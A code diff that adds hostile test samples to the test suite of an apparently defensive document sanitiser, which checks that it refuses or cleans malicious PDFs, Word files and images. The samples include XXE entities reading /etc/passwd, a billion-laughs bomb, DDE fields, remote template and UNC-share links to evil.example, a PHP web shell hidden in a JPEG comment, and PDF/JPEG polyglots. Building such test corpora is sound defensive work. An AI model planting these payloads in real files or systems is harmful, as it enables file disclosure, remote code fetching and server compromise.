@@ -5,6 +5,7 @@ Made here rather than kept. Those that are not refused but made harmless stand i
 
 import io
 import struct
+import warnings
 import zipfile
 import zlib
 from collections.abc import Callable
@@ -104,6 +105,44 @@ def _embedded_somewhere(document: pikepdf.Pdf) -> None:
     document.Root.Elsewhere = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary())
 
 
+def _opens_a_share(document: pikepdf.Pdf) -> None:
+    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\a.pdf"))
+
+
+def _link_to(address: str) -> Callable[[pikepdf.Pdf], None]:
+    def put(document: pikepdf.Pdf) -> None:
+        document.Root.OpenAction = Dictionary(S=Name.URI, URI=String(address))
+
+    return put
+
+
+def _content_from_elsewhere(document: pikepdf.Pdf) -> None:
+    stream = pikepdf.Stream(document, b"")
+    stream["/F"] = String("\\\\evil\\share\\a")
+    document.pages[0].Contents = stream
+
+
+def _entities(times: int) -> str:
+    """A part whose few words become many, or a file of the machine."""
+    more = "".join(f'<!ENTITY a{n} "{("&a" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, times))
+    return f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">{more}]>'
+
+
+def docx_with_a_grammar(times: int = 1) -> bytes:
+    """A Word document that brings entities of its own."""
+    body = f'{_entities(times)}<w:document xmlns:w="w"><w:p><w:t>&x;</w:t></w:p></w:document>'
+    return form_corpus.docx(**{"word/document.xml": body.encode()})
+
+
+def same_name_twice() -> bytes:
+    """One reader takes the first part of that name, another one the last."""
+    data = io.BytesIO(form_corpus.docx())
+    with warnings.catch_warnings(), zipfile.ZipFile(data, "a") as package:
+        warnings.simplefilter("ignore")
+        package.writestr("word/document.xml", "<w><w:altChunk/></w>")
+    return data.getvalue()
+
+
 _PDF_HARM: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
     "javascript at opening": (corpus.javascript_at_opening, "mã lệnh JavaScript"),
     "javascript by name": (corpus.javascript_by_name, "mã lệnh JavaScript"),
@@ -117,6 +156,10 @@ _PDF_HARM: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
     "attachment on a page": (_file_on_a_page, "tệp đính kèm"),
     "attachment in an unknown place": (_embedded_somewhere, "tệp đính kèm"),
     "dynamic form": (corpus.dynamic_form, "biểu mẫu động"),
+    "opens a file of a share": (_opens_a_share, "lệnh mở tệp ở nơi khác"),
+    "link to a file of the machine": (_link_to("file:///C:/Windows/System32/calc.exe"), "liên kết tới tệp trên máy"),
+    "link that is a script": (_link_to("javascript:app.alert(1)"), "liên kết tới tệp trên máy"),
+    "content from a share": (_content_from_elsewhere, "nội dung lấy từ tệp ở nơi khác"),
     "film": (corpus.film, "phim hoặc âm thanh"),
     "picture of 60,000 points a side": (corpus.huge_picture, "ảnh quá lớn"),
 }
@@ -159,6 +202,48 @@ REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
     "picture from elsewhere": (lambda: form_corpus.docx(**{RELATIONS: relation("https://e.example", "image")}), CALLS),
     "DDE": (lambda: form_corpus.docx("<w:instrText> DDEAUTO cmd </w:instrText>"), CALLS),
     "page of html inside a docx": (lambda: form_corpus.docx('<w:altChunk r:id="r1"/>'), CALLS),
+    "DDE in pieces": (
+        lambda: form_corpus.docx("<w:instrText>DD</w:instrText><w:instrText>E c</w:instrText>"),
+        CALLS,
+    ),
+    "DDE in a simple field": (lambda: form_corpus.docx('<w:fldSimple w:instr=" DDE cmd "/>'), CALLS),
+    "picture field from elsewhere": (
+        lambda: form_corpus.docx('<w:instrText>INCLUDEPICTURE "http://evil.example/x"</w:instrText>'),
+        CALLS,
+    ),
+    "template written in numbers": (
+        lambda: form_corpus.docx(**{RELATIONS: relation("&#104;ttp://evil.example/t")}),
+        CALLS,
+    ),
+    "template in another encoding": (
+        lambda: form_corpus.docx(**{RELATIONS: relation("http://evil.example/t").decode().encode("utf-16")}),
+        CALLS,
+    ),
+    "template behind a sharp bracket": (
+        lambda: form_corpus.docx(**{RELATIONS: relation("http://evil.example/t").replace(b'"r1"', b'"a>b"')}),
+        CALLS,
+    ),
+    "macros by their type alone": (
+        lambda: form_corpus.packed(
+            {
+                "[Content_Types].xml": b'<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+            }
+        ),
+        MACRO,
+    ),
+    "file of the machine drawn into a docx": (docx_with_a_grammar, BROKEN),
+    "a billion laughs": (lambda: docx_with_a_grammar(9), BROKEN),
+    "two parts of one name": (same_name_twice, BROKEN),
+    "html of two bytes a letter": (lambda: "<html><script>alert(1)</script>".encode("utf-16"), OTHER),
+    "page of a mail": (lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related", OTHER),
+    "postscript": (lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", OTHER),
+    "shortcut of windows": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(100), OTHER),
+    "php": (lambda: b"<?php system($_GET[0]); ?>", OTHER),
+    "java": (lambda: b"\xca\xfe\xba\xbe" + bytes(100), OTHER),
+    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100), OTHER),
+    "zeros": (lambda: bytes(5000), OTHER),
+    "html behind the name of a pdf": (lambda: b"%PDF-1.7<script>alert(1)</script>" + corpus.pdf(), BROKEN),
+    "two pdfs in one": (lambda: corpus.pdf() + corpus.pdf(pages=3), BROKEN),
     "xlsx": (lambda: form_corpus.office(form_corpus.EXCEL), OTHER),
     "odt": (lambda: form_corpus.odt(), OTHER),
     "docx without a body": (lambda: form_corpus.office(form_corpus.WORD), "bị hỏng"),
@@ -200,11 +285,23 @@ def png_with_a_profile_and_a_text() -> bytes:
     return data.getvalue()
 
 
+def photo_with_a_pdf_behind() -> bytes:
+    """A photo to one reader, a document with a script to another."""
+    return corpus.jpeg() + corpus.pdf_with(corpus.javascript_at_opening)
+
+
+def photo_with_php_in_its_comment() -> bytes:
+    """A photo that a careless server would run."""
+    return corpus.jpeg(comment=b"<?php system($_GET[0]); ?>")
+
+
 # Taken in, but made anew: what must not be found in what is kept.
 NEUTRALISED: dict[str, tuple[Callable[[], bytes], bytes]] = {
     "where and with what a photo was taken": (corpus.jpeg_from_a_phone, b"Exif"),
     "the same from another maker": (corpus.heic_from_a_phone, b"Exif"),
     "a package behind a photo": (jpeg_and_zip, b"PK\x03\x04"),
     "a script in a comment": (jpeg_with_script_in_its_comment, b"<script>"),
+    "a document behind a photo": (photo_with_a_pdf_behind, b"%PDF"),
+    "a program in a comment": (photo_with_php_in_its_comment, b"<?php"),
     "who owns a picture": (png_with_a_profile_and_a_text, b"Author"),
 }
